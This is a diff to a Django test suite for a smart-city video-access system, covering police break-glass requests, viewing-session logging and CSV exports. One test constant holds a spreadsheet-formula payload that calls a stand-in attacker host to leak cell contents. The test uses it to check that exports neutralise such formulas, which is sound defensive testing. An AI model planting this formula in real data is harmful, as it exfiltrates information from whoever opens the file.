@@ -17,7 +17,7 @@ from django.urls import reverse
 from smartcity.operations.models import Agency, Incident, VideoAccessEntry, VideoGrant
 from smartcity.operations.selectors.intake import client_for_key
 from smartcity.operations.services.video.grants import grant_video
-from smartcity.operations.services.video.streams import request_stream
+from smartcity.operations.services.video.streams import open_stream, request_stream
 from smartcity.operations.tests.factories import CameraFactory, IncidentFactory, api_key
 
 pytestmark = pytest.mark.django_db
@@ -118,9 +118,14 @@ def test_break_glass_through_the_page_lands_on_the_console_and_is_flagged(  # ty
     client = signed_in(police_officer)
     url = reverse("operations:agency_break_glass")
     number = scene["incident"].external_id
-    short = client.post(url, {"sender": "112", "external_id": number, "justification": "x"})
+    short = client.post(
+        url, {"sender": "112", "external_id": number, "justification": "x", "crime_type": "robbery"}
+    )
     assert short.status_code == 200 and not VideoGrant.objects.exists()
-    response = client.post(url, {"sender": "112", "external_id": number, "justification": REASON})
+    response = client.post(
+        url,
+        {"sender": "112", "external_id": number, "justification": REASON, "crime_type": "robbery"},
+    )
     grant = VideoGrant.objects.get()
     assert response.url == reverse("operations:agency_grant", args=[grant.pk])
     month = dt.datetime.now(dt.UTC).astimezone().strftime("%Y-%m")
@@ -141,21 +146,34 @@ def test_break_glass_page_names_the_sender_and_says_which_field_is_wrong(  # typ
     url = reverse("operations:agency_break_glass")
     page = client.get(url).content.decode()
     assert '<option value="112" selected>' in page  # a police room's own numbers by default
-    missing = client.post(url, {"sender": "112", "justification": REASON})
+    missing = client.post(url, {"sender": "112", "justification": REASON, "crime_type": "robbery"})
     assert missing.status_code == 200
     assert missing.context["form"].errors["external_id"] == [
         "발생 번호를 입력하거나 상황 번호를 입력하세요."
     ]
-    unknown = client.post(url, {"sender": "112", "external_id": "NO-SUCH", "justification": REASON})
+    unknown = client.post(
+        url,
+        {
+            "sender": "112",
+            "external_id": "NO-SUCH",
+            "justification": REASON,
+            "crime_type": "robbery",
+        },
+    )
     assert unknown.context["form"].errors["external_id"] == [
         "연계된 센터에 이 번호의 상황이 없습니다."
     ]
     police_agency.tenants.add(tenant_b)
     IncidentFactory(tenant=tenant_b, case_type="강도", external_id=number)
-    both = client.post(url, {"sender": "112", "external_id": number, "justification": REASON})
+    both = client.post(
+        url,
+        {"sender": "112", "external_id": number, "justification": REASON, "crime_type": "robbery"},
+    )
     assert "incident_id" in both.context["form"].errors
     assert not VideoGrant.objects.exists()
-    response = client.post(url, {"incident_id": robbery.pk, "justification": REASON})
+    response = client.post(
+        url, {"incident_id": robbery.pk, "justification": REASON, "crime_type": "robbery"}
+    )
     grant = VideoGrant.objects.get()
     assert grant.incident == robbery
     assert response.url == reverse("operations:agency_grant", args=[grant.pk])
@@ -179,22 +197,29 @@ def test_the_log_page_csv_and_review_show_the_tenants_attempts_only(  # type: ig
     officer.get(issued["url"])  # replay: refused
     operator = signed_in(platform_operator)
     page = operator.get(reverse("operations:video_log"), {"month": "2026-11"}).content.decode()
-    assert page.count("data-entry-id=") == 3 and 'data-granted="0"' in page
+    # One session row for the camera; the replay is a decision of its own, in words.
+    assert page.count("data-session-id=") == 1 and 'data-frames="1"' in page
+    assert page.count("data-entry-id=") == 1 and 'data-granted="0"' in page
+    assert "이미 사용한 영상 주소입니다." in page and "token_replayed" not in page
     assert operator_b_sees_nothing(operator_b)
     export = operator.get(reverse("operations:video_log_csv"), {"month": "2026-11"})
     rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
-    assert rows[0][:3] == ["id", "at", "tenant"] and len(rows) == 4
-    assert [r[5] for r in rows[1:]] == ["request", "open", "open"]
-    assert [r[6] for r in rows[1:]] == ["1", "1", "0"]
+    assert rows[0][:3] == ["id", "at", "tenant"] and len(rows) == 3
+    assert [r[5] for r in rows[1:]] == ["open", "open"]
+    assert [r[6] for r in rows[1:]] == ["1", "0"]
     review = operator.get(reverse("operations:video_review"), {"month": "2026-11"}).content
     assert b'data-figure="views">1<' in review and b'data-figure="refused">1<' in review
+    refused_only = operator.get(
+        reverse("operations:video_log"), {"month": "2026-11", "show": "refused"}
+    ).content.decode()
+    assert "data-session-id=" not in refused_only and refused_only.count("data-entry-id=") == 1
     october = operator.get(reverse("operations:video_log"), {"month": "2026-10"}).content
     assert b"data-entry-id=" not in october
 
 
 def operator_b_sees_nothing(operator_b) -> bool:  # type: ignore[no-untyped-def]
     page = signed_in(operator_b).get(reverse("operations:video_log"), {"month": "2026-11"})
-    return b"data-entry-id=" not in page.content
+    return b"data-entry-id=" not in page.content and b"data-session-id=" not in page.content
 
 
 def test_agency_pages_are_404_for_everyone_but_agency_officers(  # type: ignore[no-untyped-def]
@@ -244,10 +269,11 @@ def test_linkage_commands_register_certify_sweep_report_export_and_verify(  # ty
     grant = grant_video(tenant=tenant_a, incident_id=incident.pk,
                         agency_id=Agency.objects.get(code="garam-112").pk,
                         camera_ids=[camera.pk], actor=platform_operator)  # fmt: skip
-    request_stream(officer=police_officer, grant_id=grant.pk, camera_id=camera.pk)
+    ticket = request_stream(officer=police_officer, grant_id=grant.pk, camera_id=camera.pk)
+    open_stream(token=ticket.token, viewer=police_officer)
     clock.set(grant.expires_at)
     out = io.StringIO()
-    call_command("linkage", "expire", stdout=out)
+    call_command("linkage", "expire", stdout=out)  # closes the viewing session too
     assert json.loads(out.getvalue()) == {"ended": 1}
     month = clock.now.astimezone(dt.timezone(dt.timedelta(hours=9))).strftime("%Y-%m")
     out = io.StringIO()
@@ -256,11 +282,14 @@ def test_linkage_commands_register_certify_sweep_report_export_and_verify(  # ty
     assert report["attempts"] == 1 and report["refused"] == 0
     out = io.StringIO()
     call_command("linkage", "export-log", "--month", month, "--tenant", tenant_a.code, stdout=out)
-    assert len(out.getvalue().strip().splitlines()) == 2
+    assert len(out.getvalue().strip().splitlines()) == 3  # the session's open and close
     out = io.StringIO()
     call_command("linkage", "verify-log", stdout=out)
     assert "intact" in out.getvalue()
-    assert VideoAccessEntry.objects.count() == 1
+    assert list(VideoAccessEntry.objects.values_list("step", "frames")) == [
+        ("open", None),
+        ("close", 1),
+    ]
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"근거 보기") 용의자 도주 중, 센터 응답 없음'
@@ -275,7 +304,12 @@ def test_a_formula_in_a_break_glass_justification_is_text_in_both_exports(  # ty
 ) -> None:
     response = signed_in(police_officer).post(
         reverse("operations:agency_break_glass"),
-        {"sender": "112", "external_id": scene["incident"].external_id, "justification": FORMULA},
+        {
+            "sender": "112",
+            "external_id": scene["incident"].external_id,
+            "justification": FORMULA,
+            "crime_type": "robbery",
+        },
     )
     assert response.status_code == 302
     export = signed_in(platform_operator).get(
